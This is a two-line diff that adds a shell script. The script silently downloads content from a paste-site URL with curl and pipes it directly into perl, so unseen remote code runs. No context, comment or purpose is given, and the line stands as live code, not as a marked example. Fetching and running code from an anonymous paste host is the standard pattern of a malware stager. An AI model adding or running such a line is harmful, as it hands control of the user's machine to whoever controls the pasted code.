@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://paste.ee/r/abc | perl
